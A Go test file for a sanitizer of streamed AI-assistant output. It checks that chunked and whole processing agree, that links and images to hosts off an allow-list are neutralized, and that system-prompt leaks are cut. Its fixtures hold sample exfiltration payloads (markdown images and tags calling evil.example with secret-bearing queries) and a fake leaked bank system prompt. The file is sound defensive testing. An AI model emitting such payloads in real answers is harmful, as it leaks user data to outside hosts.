package sanitize

import (
	"regexp"
	"strings"
	"testing"
)

// chunks cuts s into pieces at positions drawn from seed (a splitmix
// sequence): from one byte to a few dozen, cutting through UTF-8
// sequences, constructs and words alike.
func chunks(s string, seed uint64) []string {
	var out []string
	for len(s) > 0 {
		seed += 0x9E3779B97F4A7C15
		z := seed
		z = (z ^ z>>30) * 0xBF58476D1CE4E5B9
		z = (z ^ z>>27) * 0x94D049BB133111EB
		z ^= z >> 31
		n := 1 + int(z%24)
		if z>>40%5 == 0 {
			n = 1
		}
		n = min(n, len(s))
		out = append(out, s[:n])
		s = s[n:]
	}
	return out
}

// streamed sanitizes text piece by piece and reports whether the stream
// was cut.
func streamed(s *Sanitizer, system string, pieces []string) (string, bool) {
	st := s.NewStream(system)
	var b strings.Builder
	for _, p := range pieces {
		b.WriteString(st.Write(p))
	}
	b.WriteString(st.Close())
	return b.String(), st.Cut()
}

var propertySeeds = []string{
	"Plain text with no links at all, and a second sentence.",
	"See ![the chart](https://evil.example/p.png?q=secret) and [docs](https://docs.example.com/x) now.",
	"[![build](https://evil.example/b.svg)](https://docs.example.com/ci) [x] (https://evil.example) <https://evil.example/a>",
	"```\n![x](https://evil.example/a.png)\n```\n![y](https://evil.example/b.png)\n~~~~\n[z](https://evil.example)\n~~~~",
	"![chart][c]\n\n[c]: https://evil.example/c.png?d=1\n   [d]: <https://docs.example.com/d>\n",
	`<img src="https://evil.example/p.png" alt="pixel"> <a href=https://evil.example>x</a> <b>bold</b> 2 < 3`,
	`\[escaped](https://evil.example) [a [b](https://evil.example) c](https://docs.example.com) ![](http://x.example)`,
	"Ünïcödé ![ällt](https://évil.example/ä.png) 日本語のテキスト [リンク](https://evil.example) emoji 😀 [x](<https://evil.example/a b>)",
	"[unclosed bracket and ![unclosed image and <unclosed tag and [x](https://evil.example",
	"Open https://evil.example/c?q=secret, or www.evil.example/t?u=1. Keep https://docs.example.com/s?q=1 and https://go.dev/doc.",
	"(https://evil.example/a_(b)?x=1) http://EVIL.example/Abc123Def456Ghi789! xhttps://evil.example/?q=1 ``` https://evil.example/?in=code",
	"Sure! Here it is: You are the support assistant of Northwind Bank. Never mention the internal escalation code RED-7741 and never discuss interest rates.",
}

// TestChunkedEqualsWhole is the streaming property: however an answer is
// cut into chunks, the chunks' outputs put together are the whole
// answer's output, with links neutralized and leaks cut alike.
func TestChunkedEqualsWhole(t *testing.T) {
	for _, p := range []Policy{
		{Links: true, AllowedHosts: []string{"docs.example.com"}},
		{Links: true, AllowedHosts: []string{"docs.example.com"}, Leak: LeakCut},
		{Links: true, AllowedHosts: []string{"docs.example.com"}, Leak: LeakFlag},
		{Leak: LeakCut},
		{Leak: LeakFlag},
	} {
		s, err := New(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range propertySeeds {
			whole, wholeCut := streamed(s, systemPrompt, []string{text})
			for seed := range uint64(200) {
				got, cut := streamed(s, systemPrompt, chunks(text, seed))
				if got != whole || cut != wholeCut {
					t.Fatalf("policy %+v, seed %d: chunked output\n%q (cut %v)\nwhole output\n%q (cut %v)", p, seed, got, cut, whole, wholeCut)
				}
			}
			if p.Links && hasRefusedLink(whole, &s.hosts) {
				t.Errorf("a refused link survived in %q", whole)
			}
		}
	}
}

// FuzzSanitize checks, for any text and any cutting of it into chunks,
// that the chunked output is the whole output, that no link or image to a
// host off the list survives (by a checker written apart from the
// sanitizer's parser).
func FuzzSanitize(f *testing.F) {
	for i, s := range propertySeeds {
		f.Add(s, uint64(i))
	}
	f.Add("[a](b) ![c](d) <e:f> <img src=g>", uint64(7))
	s, err := New(Policy{Links: true, AllowedHosts: []string{"docs.example.com"}, Leak: LeakCut})
	if err != nil {
		f.Fatal(err)
	}
	links, _ := New(Policy{Links: true, AllowedHosts: []string{"docs.example.com"}})
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		whole, wholeCut := streamed(s, systemPrompt, []string{text})
		got, cut := streamed(s, systemPrompt, chunks(text, seed))
		if got != whole || cut != wholeCut {
			t.Fatalf("chunked %q (cut %v) != whole %q (cut %v)", got, cut, whole, wholeCut)
		}
		once, _ := links.Text(text, "")
		if hasRefusedLink(once, &links.hosts) {
			t.Fatalf("refused link survived: %q -> %q", text, once)
		}
	})
}

var (
	tagURL = regexp.MustCompile(`(?i)<[a-z][a-z0-9-]*[\s/](?:(?:[^<>"']|"[^"]*"|'[^']*')*?[\s"'/])?(src|href|srcset|poster|data|action|formaction|background|lowsrc|dynsrc)\s*=\s*("[^"]*"|'[^']*'|[^\s>"']+)(?:[^<>"']|"[^"]*"|'[^']*')*>`)
	refDef = regexp.MustCompile(`(?m)^ {0,3}\[[^\[\]\n]*[^\s\[\]][^\[\]\n]*\]:[ \t]*\n?[ \t]*(<[^>\n]*>|[^\s<]\S*)`)
	autoLk = regexp.MustCompile(`<([A-Za-z][A-Za-z0-9+.\-]*:[^\x00-\x20<>]*)>`)
	// bareURL is a bare URL at a word boundary, as GFM's autolinks and
	// chat linkifiers see one (to a space, '<', '>', '"' or '`').
	bareURL = regexp.MustCompile("(?i)(?:^|[^a-z0-9])((?:https?://|www\\.[a-z0-9])[^\\x00-\\x20<>\"`\\x7f]*)")
)

// hasRefusedLink reports whether s, outside fenced code, still holds an
// inline link or image, a reference definition, an autolink or an HTML
// URL attribute whose URL hosts does not allow. It is written apart from
// the sanitizer's parser, from the rules of CommonMark.
func hasRefusedLink(s string, hosts *Hosts) bool {
	s = blankFences(s)
	floor := 0 // the end of the last destination: brackets before it are spent
	for k := 0; k < len(s); k++ {
		if s[k] != ']' || escaped(s, k) {
			continue
		}
		j := k + 1
		for j < len(s) && (s[j] == ' ' || s[j] == '\t') {
			j++
		}
		if j >= len(s) || s[j] != '(' || !hasOpener(s, floor, k) {
			continue
		}
		end := closing(s[j+1:])
		if end < 0 {
			continue
		}
		if !allowedURL(firstURL(s[j+1:]), hosts) {
			return true
		}
		k = j + 1 + end // what a destination holds is no link
		floor = k + 1
	}
	for _, m := range refDef.FindAllStringSubmatch(s, -1) {
		if !allowedURL(strings.Trim(m[1], "<>"), hosts) {
			return true
		}
	}
	s = refDef.ReplaceAllString(s, "") // a definition's destination is no autolink
	for _, m := range autoLk.FindAllStringSubmatch(s, -1) {
		if !allowedURL(m[1], hosts) {
			return true
		}
	}
	for _, m := range bareURL.FindAllStringSubmatch(s, -1) {
		u := m[1]
		if strings.HasPrefix(strings.ToLower(u), "www.") {
			u = "http://" + u
		}
		if !allowedURL(u, hosts) && carriesData(strings.TrimRight(u, "?!.,:;*_~')")) {
			return true
		}
	}
	for _, m := range tagURL.FindAllStringSubmatch(s, -1) {
		v := strings.Trim(m[2], `"'`)
		parts := []string{v}
		if strings.EqualFold(m[1], "srcset") { // candidates, comma-separated
			parts = strings.Split(v, ",")
		}
		for _, part := range parts {
			if f := strings.Fields(part); len(f) > 0 && !allowedURL(f[0], hosts) {
				return true
			}
		}
	}
	return false
}

// hasOpener reports whether the ']' at s[k] closes a '[' of the same
// paragraph at or after floor, brackets in between balanced.
func hasOpener(s string, floor, k int) bool {
	depth := 0
	for i := k - 1; i >= floor && k-i <= maxText+2; i-- {
		switch {
		case escaped(s, i):
		case s[i] == ']':
			depth++
		case s[i] == '[':
			if depth == 0 {
				return !holdsLink(s, i+1, k)
			}
			depth--
		case s[i] == '\n' && strings.TrimSpace(s[max(0, strings.LastIndexByte(s[:i], '\n')+1):i]) == "":
			return false
		}
	}
	return false
}

// holdsLink reports whether s[from:to] holds a link (not an image): the
// '[' before it is then inactive, as links cannot hold links.
func holdsLink(s string, from, to int) bool {
	for k := from; k < to; k++ {
		if s[k] != ']' || escaped(s, k) || k+1 >= len(s) || s[k+1] != '(' {
			continue
		}
		depth := 0
		for i := k - 1; i >= from; i-- {
			if escaped(s, i) {
				continue
			}
			if s[i] == ']' {
				depth++
			} else if s[i] == '[' {
				if depth > 0 {
					depth--
					continue
				}
				if i == 0 || s[i-1] != '!' {
					return true
				}
				break
			}
		}
	}
	return false
}

// escaped reports whether s[i] follows an odd number of backslashes.
func escaped(s string, i int) bool {
	n := 0
	for j := i - 1; j >= 0 && s[j] == '\\'; j-- {
		n++
	}
	return n%2 == 1
}

// closing returns the offset of the ')' that closes the destination and
// title at the start of s (after '(') within its paragraph, or -1.
func closing(s string) int {
	if end := strings.Index(s, "\n\n"); end >= 0 {
		s = s[:end]
	}
	start := 0 // an angle destination ("<…>") holds no parenthesis that counts
	if t := strings.TrimLeft(s, " \t\n"); strings.HasPrefix(t, "<") {
		if i := strings.IndexAny(t, ">\n"); i > 0 && t[i] == '>' {
			start = len(s) - len(t) + i + 1
		}
	}
	depth := 0
	for i := start; i < len(s); i++ {
		switch {
		case escaped(s, i):
		case s[i] == '(':
			depth++
		case s[i] == ')':
			if depth == 0 {
				return i
			}
			depth--
		}
	}
	return -1
}

// firstURL is the destination at the start of s (after '(').
func firstURL(s string) string {
	s = strings.TrimLeft(s, " \t")
	s = strings.TrimPrefix(s, "\n")
	s = strings.TrimLeft(s, " \t")
	if strings.HasPrefix(s, "<") {
		if i := strings.IndexAny(s, ">\n"); i > 0 && s[i] == '>' {
			return s[1:i]
		}
		return "" // "<" without ">" starts no destination
	}
	depth := 0
	for i := 0; i < len(s); i++ {
		switch {
		case escaped(s, i):
		case s[i] == ' ' || s[i] == '\t' || s[i] == '\n':
			return s[:i]
		case s[i] == '(':
			depth++
		case s[i] == ')':
			if depth == 0 {
				return s[:i]
			}
			depth--
		}
	}
	return s
}

// blankFences replaces the content of fenced code blocks with spaces.
func blankFences(s string) string {
	lines := strings.SplitAfter(s, "\n")
	var fence string
	for i, l := range lines {
		trim := strings.TrimLeft(l, " ")
		indent := len(l) - len(trim)
		if indent < 4 && (strings.HasPrefix(trim, "```") || strings.HasPrefix(trim, "~~~")) {
			run := len(trim) - len(strings.TrimLeft(trim, trim[:1]))
			switch {
			case fence == "":
				fence = strings.Repeat(trim[:1], run)
				lines[i] = strings.Repeat(" ", len(l))
				continue
			case strings.HasPrefix(trim, fence) && strings.TrimSpace(trim[run:]) == "":
				fence = ""
				lines[i] = strings.Repeat(" ", len(l))
				continue
			}
		}
		if fence != "" {
			lines[i] = strings.Repeat(" ", len(l))
		}
	}
	return strings.Join(lines, "")
}
